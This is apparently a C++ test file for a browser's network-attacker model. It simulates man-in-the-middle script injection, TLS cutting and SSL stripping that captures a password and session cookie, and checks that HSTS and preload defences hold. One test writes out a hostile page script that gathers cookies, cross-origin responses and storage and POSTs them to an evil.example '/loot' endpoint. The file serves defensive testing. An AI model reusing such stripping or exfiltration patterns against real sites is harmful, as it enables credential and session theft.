#include "core/browser/ssl_stripper.h"
#include "tests/core/browser/agent_world.h"

using namespace parapet;
using namespace parapet::browser;
using namespace parapet::tests;

namespace {

// A victim whose line runs through the man.
struct TappedWorld : AgentWorld {
    explicit TappedWorld(ManInTheMiddle& man) : AgentWorld({}, &man) {
        auto const to_https = [](http::Request const& request) {
            return http::Response{301, {{"Location", "https://shop.example" + request.target}}, ""};
        };
        shop.on("/", [=](http::Request const& request) {
            if (request.scheme == "http") return to_https(request);
            http::HeaderList headers{{"Content-Type", "text/html"},
                                     {"Set-Cookie", "session=s3cret; Secure; HttpOnly"},
                                     {"Strict-Transport-Security", "max-age=864000"}};  // ten days
            return http::Response{200, headers, R"(<form id=login method=post
                action="https://shop.example/login"><input name=password id=p></form>)"};
        });
        shop.on("/login", [=](http::Request const& request) {
            if (request.scheme == "http") return to_https(request);
            return http::Response{200, {{"Content-Type", "text/html"}}, "welcome, canary-in-page"};
        });
    }

    void log_in() {
        visit("shop.example");
        if (shown().status == 0) return;
        agent->type(shown().id, element("p"), "hunter2");
        submit("login");
    }
};

}  // namespace

TEST_CASE("wire: the man in the middle learns nothing of TLS but the host's name",
          "[browser][wire]") {
    ManInTheMiddle man;
    TappedWorld world(man);
    world.visit("https://shop.example/?q=canary-in-query");
    world.agent->type(world.shown().id, world.element("p"), "hunter2");
    world.submit("login");
    REQUIRE(world.address() == "https://shop.example/login");
    for (std::string_view secret : {"canary", "hunter2", "s3cret", "/login"})
        CHECK_FALSE(world.line->overheard_text(secret));
    CHECK(world.line->overheard_text("shop.example"));
    for (Overheard const& each : world.line->overheard()) CHECK_FALSE(each.request);
}

TEST_CASE("wire: what is not TLS he reads and changes", "[browser][wire]") {
    class Injector final : public ManInTheMiddle {
        http::Response handle(http::Request const& request, Wire& beyond) override {
            auto response = beyond.exchange(request);
            response.body += "<script>injected</script>";
            return response;
        }
    } man;
    TappedWorld world(man);
    world.evil.page("/plain", "text", {{"Set-Cookie", "c=open-cookie"}});
    world.visit("http://evil.example/plain");
    CHECK(world.scripts.has_run("injected"));
    CHECK(world.line->overheard_text("open-cookie"));
}

TEST_CASE("wire: he may cut TLS, and the browser does not fall back to http", "[browser][wire]") {
    class Cutter final : public ManInTheMiddle {
        TlsFate see_tls(std::string_view) override { return TlsFate::IsCut; }
    } man;
    TappedWorld world(man);
    world.visit("https://shop.example/");
    CHECK(world.shown().status == 0);
    CHECK(world.shop.asked.empty());
}

TEST_CASE("wire: ssl stripping reads the password of a first visit", "[browser][wire]") {
    SslStripper man;
    TappedWorld world(man);
    world.log_in();
    CHECK(world.address() == "http://shop.example/login");
    CHECK(world.line->overheard_text("hunter2"));
    CHECK(world.line->overheard_text("session=s3cret"));
    CHECK(world.line->overheard_text("canary-in-page"));
    CHECK(world.shop.last("/login").scheme == "https");
    // The cookie has lost its Secure, or the browser would neither keep nor send it over http.
    CHECK(header(world.shop.last("/login"), "Cookie") == "session=s3cret");
}

TEST_CASE("wire: after a visit with HSTS the stripper gets nothing, until it expires",
          "[browser][wire]") {
    SslStripper man;
    TappedWorld world(man);
    world.visit("https://shop.example/");  // at home, say: he sees the name alone
    CHECK(world.has(EventKind::HstsLearnt, "shop.example"));
    world.clock.pass(std::chrono::hours(24) * 9);
    world.log_in();
    CHECK(world.address() == "https://shop.example/login");
    CHECK(world.has(EventKind::HstsUpgraded, "http://shop.example/"));
    CHECK_FALSE(world.line->overheard_text("hunter2"));
    // Nine days later the second visit has renewed it; ten after that he has waited long enough.
    world.clock.pass(std::chrono::hours(24) * 11);
    world.log_in();
    CHECK(world.address() == "http://shop.example/login");
    CHECK(world.line->overheard_text("hunter2"));
}

TEST_CASE("wire: a preloaded host is never asked over http", "[browser][wire]") {
    SslStripper man;
    TappedWorld world(man);
    world.agent->hsts().preload("shop.example", {world.clock.now() + std::chrono::hours(24) * 365,
                                                 HstsScope::IncludeSubDomains});
    world.log_in();
    CHECK_FALSE(world.line->overheard_text("hunter2"));
}

TEST_CASE("wire: HSTS over http is not believed", "[browser][wire]") {
    ManInTheMiddle man;
    TappedWorld world(man);
    world.evil.page("/", "x", {{"Strict-Transport-Security", "max-age=864000"}});
    world.visit("http://evil.example/");
    world.visit("http://evil.example/");
    CHECK(world.address() == "http://evil.example/");
    CHECK_FALSE(world.events(EventKind::HstsLearnt).at(0).verdict.allowed());
}

TEST_CASE("wire: an attacker with a host of his own and no wire learns no wire secrets",
          "[browser][wire]") {
    ManInTheMiddle nobody;
    TappedWorld world(nobody);
    world.agent->visit(world.tab, "https://shop.example/");
    world.agent->type(world.shown().id, world.element("p"), "hunter2");
    world.submit("login");
    // All that a page of his may try.
    world.evil.page("/", R"(<iframe id=f src="https://shop.example/login"></iframe>
        <img src="https://shop.example/login"><script src="https://shop.example/login"></script>
        <object data="https://shop.example/login"></object><script>try everything</script>)");
    world.scripts.functions["try everything"] = [](PageApi& page) {
        std::string loot = page.cookie();
        for (auto mode : {RequestMode::Cors, RequestMode::NoCors})
            loot += page.fetch({.url = "https://shop.example/login",
                                .mode = mode,
                                .credentials = CredentialsMode::Include})
                        .body;
        if (auto* framed = page.frame_document(*page.tree().find("iframe")))
            loot += framed->tree().text_of(kDocumentNode) + framed->cookie();
        for (auto const& key : page.storage_keys(StorageKind::Local)) loot += key;
        page.fetch({.url = "/loot", .method = "POST", .body = "[" + loot + "]"});
    };
    world.visit("https://evil.example/");
    REQUIRE(world.evil.last("/loot").body == "[]");
    for (std::string_view secret : {"s3cret", "hunter2", "canary"})
        CHECK_FALSE(world.evil.received(secret));
    CHECK(world.has(EventKind::Cors, "https://shop.example/login"));
    CHECK(world.has(EventKind::AccessRefused, "https://shop.example/login"));
}
